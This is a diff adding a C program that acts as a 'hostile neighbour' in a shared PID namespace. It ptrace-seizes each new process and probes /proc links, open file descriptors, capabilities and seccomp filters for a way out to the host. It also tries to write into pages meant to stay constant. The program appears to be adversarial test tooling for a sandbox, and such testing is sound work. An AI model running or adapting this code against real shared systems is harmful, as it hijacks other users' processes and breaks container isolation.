@@ -1,0 +1,194 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * A hostile neighbour in a shared PID namespace: takes over (PTRACE_SEIZE) every process that
+ * appears, as early as it can, and looks for a way to the host in it. Wants CAP_SYS_PTRACE.
+ *
+ *   neighbour SECONDS FILE     FILE: a path that only the host has
+ *
+ * Prints a line for each finding: "held" (took one over), "host by WHAT" (/proc/PID/WHAT leads
+ * to FILE), "fd TARGET", "exe TARGET", "admin unfiltered" (CAP_SYS_ADMIN without a filter),
+ * "filtered" or "acted" (what became of a call in its name, where it has a filter), "wrote"
+ * (into a page that is to be constant).
+ */
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/uio.h>
+#include <sys/user.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#define UP "/../../../../../../../../../../../../.."
+
+static const char *marker;
+
+static void look_at(pid_t pid, const char *what)
+{
+	char path[8192], target[4096];
+	struct stat st;
+	ssize_t n;
+
+	snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
+	n = readlink(path, target, sizeof(target) - 1);
+	if (n < 0)
+		return;
+	if (strcmp(what, "root") && strcmp(what, "cwd"))
+		printf("%.2s %.*s\n", what, (int)n, target);
+	snprintf(path, sizeof(path), "/proc/%d/%s%s", pid, what, marker);
+	if (stat(path, &st) == 0)
+		printf("host by %s\n", what);
+	snprintf(path, sizeof(path), "/proc/%d/%s" UP "%s", pid, what, marker);
+	if (stat(path, &st) == 0)
+		printf("host by %s and up\n", what);
+}
+
+static unsigned long long field(pid_t pid, const char *file, const char *key, int base)
+{
+	char path[64], text[8192];
+	ssize_t n;
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/%d/%s", pid, file);
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		return 0;
+	n = read(fd, text, sizeof(text) - 1);
+	close(fd);
+	text[n > 0 ? n : 0] = 0;
+	char *at = strstr(text, key);
+
+	return at ? strtoull(at + strlen(key), NULL, base) : 0;
+}
+
+/* What a filter knows by its address must not change. */
+static void write_constants(pid_t pid)
+{
+	char path[64], line[512];
+	FILE *maps;
+
+	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
+	maps = fopen(path, "re");
+	while (maps && fgets(line, sizeof(line), maps)) {
+		unsigned long long at = strtoull(line, NULL, 16);
+
+		if (!strstr(line, "memfd:proc"))
+			continue;
+		errno = 0;
+		if (ptrace(PTRACE_POKEDATA, pid, (void *)(uintptr_t)at, (void *)0) == 0)
+			puts("wrote");
+		snprintf(path, sizeof(path), "/proc/%d/mem", pid);
+		int fd = open(path, O_RDWR | O_CLOEXEC);
+
+		if (fd >= 0 && pwrite(fd, "x", 1, (off_t)at) == 1)
+			puts("wrote");
+		if (fd >= 0)
+			close(fd);
+	}
+	if (maps)
+		fclose(maps);
+}
+
+/* Lets it make a call that is of use to us; false: it is gone. */
+static int act(pid_t pid)
+{
+#if defined(__x86_64__)
+	struct user_regs_struct regs;
+	int status;
+
+	if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0 ||
+	    (ptrace(PTRACE_PEEKTEXT, pid, (void *)(regs.rip - 2), NULL) & 0xffff) != 0x050f)
+		return 1;
+	regs.rip -= 2;
+	regs.rax = SYS_getuid;
+	regs.orig_rax = (unsigned long long)-1;
+	if (ptrace(PTRACE_SETREGS, pid, NULL, &regs) < 0 ||
+	    ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL) < 0 || waitpid(pid, &status, __WALL) != pid)
+		return 1;
+	if (WIFSTOPPED(status) && WSTOPSIG(status) == SIGTRAP) {
+		puts("acted");
+		return 1;
+	}
+	puts("filtered");
+	return !WIFSIGNALED(status);
+#else
+	(void)pid;
+	return 1;
+#endif
+}
+
+static void inspect(pid_t pid)
+{
+	unsigned long long caps = field(pid, "status", "CapEff:\t", 16);
+	unsigned long long filtered = field(pid, "status", "Seccomp:\t", 10);
+	char fd[16];
+	int status;
+
+	look_at(pid, "root");
+	look_at(pid, "cwd");
+	look_at(pid, "exe");
+	for (int i = 0; i < 64; i++) {
+		snprintf(fd, sizeof(fd), "fd/%d", i);
+		look_at(pid, fd);
+	}
+	puts("held");
+	if ((caps >> 21 & 1) && !filtered)
+		puts("admin unfiltered");
+	write_constants(pid);
+	if (filtered && !act(pid)) {
+		waitpid(pid, &status, __WALL);
+		return;
+	}
+	ptrace(PTRACE_DETACH, pid, NULL, NULL);
+}
+
+static int take(pid_t pid)
+{
+	int status;
+
+	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
+		return 0;
+	if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) < 0 || waitpid(pid, &status, __WALL) != pid)
+		return 1;
+	if (WIFSTOPPED(status))
+		inspect(pid);
+	fflush(stdout);
+	return 1;
+}
+
+int main(int argc, char **argv)
+{
+	if (argc != 3)
+		return 64;
+	marker = argv[2];
+	time_t end = time(NULL) + strtol(argv[1], NULL, 10);
+	pid_t last = getpid();
+
+	puts("up");
+	fflush(stdout);
+	for (unsigned long i = 0; i % 256 || time(NULL) < end; i++) {
+		char text[128] = "", *at;
+		int fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
+
+		/* its last word: the newest pid of this namespace */
+		if (fd < 0 || read(fd, text, sizeof(text) - 1) <= 0)
+			return 1;
+		close(fd);
+		at = strrchr(text, ' ');
+		pid_t now = at ? (pid_t)strtol(at, NULL, 10) : last;
+
+		for (pid_t pid = last + 1; pid <= now; pid++)
+			take(pid);
+		last = now > last ? now : last;
+		for (int k = 0; k < 64; k++) /* one that is not there yet */
+			last += take(last + 1);
+	}
+	return 0;
+}
